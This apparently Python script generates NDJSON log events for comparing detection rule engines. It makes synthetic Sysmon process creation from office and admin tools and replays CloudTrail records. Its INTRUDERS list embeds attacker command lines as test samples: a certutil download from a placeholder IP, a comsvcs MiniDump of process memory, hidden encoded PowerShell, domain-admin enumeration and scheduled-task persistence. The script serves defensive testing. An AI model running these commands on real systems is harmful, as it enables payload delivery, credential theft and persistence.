#!/usr/bin/env python3
"""lanes.py LANE COUNT [DATA]: events of one log source as NDJSON on standard output, for comparing
rule engines. Their fields are named as the rules of SigmaHQ name them.

    windows      made up: Sysmon process creation of an office, with the tools of administrators and,
                 one in fifty, of intruders; about 900 bytes
    cloudtrail   real: the CloudTrail records below DATA (stratus-cloudtrail, otrf-aws), again and
                 again, each with an id and an address of its own; about 1.2 kB

The same arguments give the same bytes.
"""
import glob
import json
import pathlib
import random
import sys
import zipfile

SYSTEM = "C:\\Windows\\System32\\"
OFFICE = "C:\\Program Files\\Microsoft Office\\root\\Office16\\"
PROGRAMS = [  # image, company, product, arguments
    (SYSTEM + "svchost.exe", "Microsoft Corporation", "Microsoft Windows Operating System",
     ["-k netsvcs -p -s Schedule", "-k LocalService -p", "-k UnistackSvcGroup -s WpnUserService"]),
    (SYSTEM + "conhost.exe", "Microsoft Corporation", "Microsoft Windows Operating System",
     ["0xffffffff -ForceV1", "0x4"]),
    (SYSTEM + "backgroundTaskHost.exe", "Microsoft Corporation",
     "Microsoft Windows Operating System", ["-ServerName:CortanaUI.AppXfbwnm2h8mbz.mca"]),
    (SYSTEM + "taskhostw.exe", "Microsoft Corporation", "Microsoft Windows Operating System",
     ["Install $(Arg0)", ""]),
    (SYSTEM + "SearchProtocolHost.exe", "Microsoft Corporation", "Windows Search",
     ["Global\\UsGthrFltPipeMssGthrPipe{n}_ Global\\UsGthrCtrlFltPipeMssGthrPipe{n} 1 -2147483646"]),
    (OFFICE + "WINWORD.EXE", "Microsoft Corporation", "Microsoft Office",
     ['/n "C:\\Users\\{user}\\Documents\\report {n}.docx" /o ""']),
    (OFFICE + "OUTLOOK.EXE", "Microsoft Corporation", "Microsoft Outlook", ["/recycle", ""]),
    ("C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe", "Google LLC", "Google Chrome",
     ["--type=renderer --field-trial-handle={n},i,{n},{n},131072 --lang=de --device-scale-factor=1 "
      "--num-raster-threads=4 --renderer-client-id={n} --mojo-platform-channel-handle={n}"]),
    ("C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe", "Microsoft Corporation",
     "Microsoft Edge", ["--type=utility --utility-sub-type=network.mojom.NetworkService "
                        "--no-sandbox --service-sandbox-type=none --channel={n}"]),
    ("C:\\Program Files\\Git\\cmd\\git.exe", "The Git Development Community", "Git",
     ["-c diff.mnemonicprefix=false fetch --no-tags origin", "status --porcelain -z"]),
    ("C:\\Program Files\\nodejs\\node.exe", "Node.js", "Node.js",
     ["C:\\src\\shop\\node_modules\\webpack\\bin\\webpack.js --mode production --port {n}"]),
    ("C:\\Users\\{user}\\AppData\\Local\\Programs\\Python\\Python312\\python.exe",
     "Python Software Foundation", "Python", ["-m pytest -q tests\\test_{n}.py"]),
    (SYSTEM + "WindowsPowerShell\\v1.0\\powershell.exe", "Microsoft Corporation",
     "Microsoft Windows Operating System",
     ["-NoProfile -File C:\\ProgramData\\scripts\\inventory.ps1 -Site {n}",
      "-Command Get-Service | Where-Object Status -eq Running"]),
    (SYSTEM + "cmd.exe", "Microsoft Corporation", "Microsoft Windows Operating System",
     ['/c "C:\\src\\shop\\build.bat" {n}', "/c ver"]),
    (SYSTEM + "gpupdate.exe", "Microsoft Corporation", "Microsoft Windows Operating System",
     ["/target:user"]),
]
INTRUDERS = [
    (SYSTEM + "certutil.exe", "-urlcache -split -f http://203.0.113.9/{n}.exe C:\\Users\\Public\\x.exe"),
    (SYSTEM + "rundll32.exe", "C:\\Windows\\System32\\comsvcs.dll MiniDump {n} C:\\temp\\l.dmp full"),
    (SYSTEM + "WindowsPowerShell\\v1.0\\powershell.exe",
     "-nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA"),
    (SYSTEM + "net.exe", 'group "Domain Admins" /domain'),
    (SYSTEM + "schtasks.exe", "/create /tn upd{n} /sc minute /tr C:\\Users\\Public\\x.exe"),
    (SYSTEM + "wbem\\WMIC.exe", "process call create calc.exe"),
]


def windows(count):
    users = [f"user{i:03d}" for i in range(300)]
    for i in range(count):
        user = random.choice(users)
        fill = {"{n}": str(random.randint(1000, 99999)), "{user}": user}
        if random.random() < 0.02:
            image, arguments = random.choice(INTRUDERS)
            company, product = "Microsoft Corporation", "Microsoft Windows Operating System"
        else:
            image, company, product, lines = random.choice(PROGRAMS)
            arguments = random.choice(lines)
        for name, value in fill.items():
            image, arguments = image.replace(name, value), arguments.replace(name, value)
        parent = random.choice([SYSTEM + "services.exe", "C:\\Windows\\explorer.exe",
                                SYSTEM + "svchost.exe", SYSTEM + "cmd.exe", image])
        name = image.rsplit("\\", 1)[1]
        digest = f"{random.getrandbits(256):064X}"
        yield {
            "EventID": 1, "UtcTime": f"2026-08-21 11:{i // 60000 % 60:02d}:{i // 1000 % 60:02d}."
                                     f"{i % 1000:03d}",
            "Computer": f"WS-{i % 500:04d}.corp.example", "ProcessGuid":
            f"{{{random.getrandbits(128):032X}}}", "ProcessId": random.randint(400, 30000),
            "Image": image, "FileVersion": "10.0.22621.1", "Description": name.split(".")[0],
            "Product": product, "Company": company, "OriginalFileName": name,
            "CommandLine": f'"{image}" {arguments}', "CurrentDirectory": f"C:\\Users\\{user}\\",
            "User": f"CORP\\{user}", "LogonId": hex(random.getrandbits(24)),
            "IntegrityLevel": random.choice(["Medium", "Medium", "System", "High"]),
            "Hashes": f"SHA256={digest},IMPHASH={digest[:32]}", "ParentImage": parent,
            "ParentProcessId": random.randint(400, 30000), "ParentCommandLine": f'"{parent}"',
            "ParentUser": "NT AUTHORITY\\SYSTEM",
        }


def cloudtrail(count, data):
    records = []
    for name in sorted(glob.glob(f"{data}/stratus-cloudtrail/*.json")):
        records += json.loads(pathlib.Path(name).read_text())
    for name in sorted(glob.glob(f"{data}/otrf-aws/*.zip")):
        with zipfile.ZipFile(name) as archive:
            for member in archive.namelist():
                if member.endswith(".json"):
                    records += [json.loads(line) for line in archive.read(member).splitlines()]
    if not records:
        sys.exit(f"lanes.py: no CloudTrail records below {data}")
    for i in range(count):
        record = dict(records[i % len(records)])
        record["eventID"] = f"{random.getrandbits(128):032x}"
        record["sourceIPAddress"] = f"198.51.{random.randint(0, 255)}.{random.randint(1, 254)}"
        yield record


lane, wanted = sys.argv[1], int(sys.argv[2])
random.seed(7)
made = windows(wanted) if lane == "windows" else cloudtrail(wanted, sys.argv[3])
for event in made:
    sys.stdout.write(json.dumps(event, separators=(",", ":")) + "\n")
